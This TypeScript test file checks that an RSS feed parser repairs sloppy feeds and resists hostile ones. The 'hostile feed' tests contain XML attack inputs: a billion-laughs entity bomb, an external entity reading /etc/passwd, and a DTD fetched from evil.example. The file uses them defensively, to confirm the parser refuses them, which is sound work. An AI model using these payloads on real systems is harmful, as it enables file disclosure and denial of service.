import { describe, expect, it } from 'vitest';
import { onlyArticle, parsed, refusal } from './parsed.ts';

const rss = (items: string): string =>
  `<?xml version="1.0"?><rss version="2.0"><channel><title>Quai</title>${items}</channel></rss>`;

describe('a feed is repaired where readers would', () => {
  it('an ampersand or an angle bracket that nobody escaped', async () => {
    const article = await onlyArticle(
      rss(
        '<item><title>Achats & ventes : 3 < 5</title><link>https://quai.example/?a=1&b=2</link><description>Fret & douane, prix <3.</description></item>',
      ),
    );
    expect(article).toMatchObject({
      title: 'Achats & ventes : 3 < 5',
      url: 'https://quai.example/?a=1&b=2',
      body: 'Fret & douane, prix <3.',
    });
  });

  it('end tags that are missing', async () => {
    const { articles } = await parsed(
      rss(
        '<item><title>Un<link>https://quai.example/1</link><description>Premier texte</description><item><title>Deux</title><description><p>Second texte<br></description>',
      ),
    );
    expect(articles.map(({ title, body, url }) => [title, body, url])).toEqual([
      ['Un', 'Premier texte', 'https://quai.example/1'],
      ['Deux', 'Second texte', ''],
    ]);
  });

  it('HTML that is not escaped', async () => {
    const article = await onlyArticle(
      rss(
        '<item><title>t</title><description><p>Un <b>quai</b> neuf.</p><img src="x.png"><p>Et un &eacute;tal.</p></description></item>',
      ),
    );
    expect(article.body).toBe('Un quai neuf.\n\nEt un étal.');
  });

  it('junk and blank lines before the declaration', async () => {
    const { format, articles } = await parsed(
      `\n\n  Warning: cache expired\n${rss('<item><title>t</title><description>Texte</description></item>')}`,
    );
    expect([format, articles[0]?.body]).toEqual(['rss', 'Texte']);
  });

  it('literal text in literal text', async () => {
    const article = await onlyArticle(
      rss(
        '<item><title><![CDATA[Prix: a < b]]></title><description><![CDATA[<p>Avant</p><![CDATA[<p>Dedans</p>]]></description></item>',
      ),
    );
    expect(article.title).toBe('Prix: a < b');
    expect(article.body).toContain('Avant');
    expect(article.body).toContain('Dedans');
  });

  it('control characters, prefixes that were never declared, and names in the wrong case', async () => {
    const article = await onlyArticle(
      rss(
        '<Item><Title>Un\u0008 quai</Title><content:encoded>&lt;p&gt;Texte\u000b entier&#0;&lt;/p&gt;</content:encoded><dc:creator>Anne</dc:creator><PubDate>Mon, 03 May 2021 09:15:00 Z</PubDate></Item>',
      ),
    );
    expect(article).toMatchObject({
      title: 'Un quai',
      body: 'Texte entier',
      byline: 'Anne',
      published: '2021-05-03T09:15:00Z',
    });
  });

  it('a file that was cut off', async () => {
    const { articles } = await parsed(
      rss(
        '<item><title>Entier</title><description>Texte entier</description></item><item><title>Coup',
      ).replace(/<\/channel>.*/s, ''),
    );
    expect(articles.map(({ title }) => title)).toEqual(['Entier', 'Coup']);
  });

  it('a charset that lies is overruled', async () => {
    const text = rss(
      '<item><title>سوق</title><description>عاد الصيادون إلى الميناء بعد توقف العاصفة التي استمرت يومين.</description></item>',
    );
    const file = await parsed(text.replace('version="1.0"?', 'version="1.0" encoding="iso-8859-1"?'));
    expect(file).toMatchObject({
      encoding: 'utf-8',
      encodingReason: 'overruled',
      declaredEncoding: 'windows-1252',
    });
    expect(file.articles[0]?.body).toContain('عاد الصيادون إلى الميناء');
  });
});

describe('a hostile feed', () => {
  const bomb = (entities: string): string =>
    `<?xml version="1.0"?><!DOCTYPE rss [${entities}]><rss version="2.0"><channel><item><title>t</title><description>A &lol9; &file; Z</description></item></channel></rss>`;

  it('has none of its entities expanded, nor any file read', async () => {
    const entities = [
      '<!ENTITY lol "lol">',
      '<!ENTITY file SYSTEM "file:///etc/passwd">',
      '<!ENTITY % ext SYSTEM "http://evil.example/x.dtd"> %ext;',
    ];
    for (let level = 1; level <= 9; level++) {
      entities.push(`<!ENTITY lol${level} "${`&lol${level === 1 ? '' : level - 1};`.repeat(10)}">`);
    }
    expect((await onlyArticle(bomb(entities.join('\n')))).body).toBe('A &lol9; &file; Z');
  });

  it('with a document type of megabytes, or without its end, is refused', async () => {
    expect(await refusal(bomb('<!ENTITY a "b">'.repeat(10_000)), 'x.rss')).toMatch(
      /^(?:malformed|unsupported-format)/,
    );
    expect(await refusal('<?xml version="1.0"?><!DOCTYPE rss [ <!ENTITY a "b', 'x.rss')).toMatch(
      /^(?:malformed|unsupported-format)/,
    );
  });

  it('nested without end is refused', async () => {
    expect(await refusal(rss(`<item><description>${'<a>'.repeat(100_000)}`))).toBe('malformed');
  });

  it('of more elements than a parser can hold is refused', async () => {
    expect(await refusal(rss('<item/>'.repeat(600_000)))).toBe('too-large');
  });

  it('with HTML nested without end in one item keeps its words and the other items', async () => {
    const { articles } = await parsed(
      rss(
        `<item><title>a</title><description><![CDATA[${'<div>'.repeat(20_000)}mot]]></description></item><item><title>b</title><description>texte</description></item>`,
      ),
    );
    expect(articles.map(({ body }) => body)).toEqual(['mot', 'texte']);
  });

  it.each(['&', '<', '<![CDATA[', ']]>', '<a ', '&#', '<!--', '</', '<p', ' ', '\n'])(
    'that is a megabyte of %j is read to its end',
    async (worst) => {
      const text = worst.repeat(Math.ceil(1_000_000 / worst.length));
      const code = await refusal(rss(`<item><title>t</title><description>${text}`));
      expect(['ok', 'malformed', 'too-large']).toContain(code);
    },
  );

  it('without any entry has no text', async () => {
    expect(await refusal(rss(''))).toBe('no-text');
  });
});

describe('what is no feed', () => {
  it.each([
    [
      '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><text>a</text></svg>',
      'unsupported-format svg',
    ],
    ['<?xml version="1.0"?><inventory><feed>hay</feed></inventory>', 'unsupported-format xml'],
    ['<?xml version="1.0"?><feed><bale/></feed>', 'unsupported-format xml'],
  ])('%s', async (xml, code) => {
    expect(await refusal(xml)).toBe(code);
  });

  it('an article about feeds stays a text', async () => {
    const text = `Comment lire un flux\n\n${'Un flux est un fichier que publie un site. '.repeat(10)}\nIl commence par <rss version="2.0"><channel>.`;
    expect((await parsed(text, 'note.txt')).format).toBe('txt');
  });
});
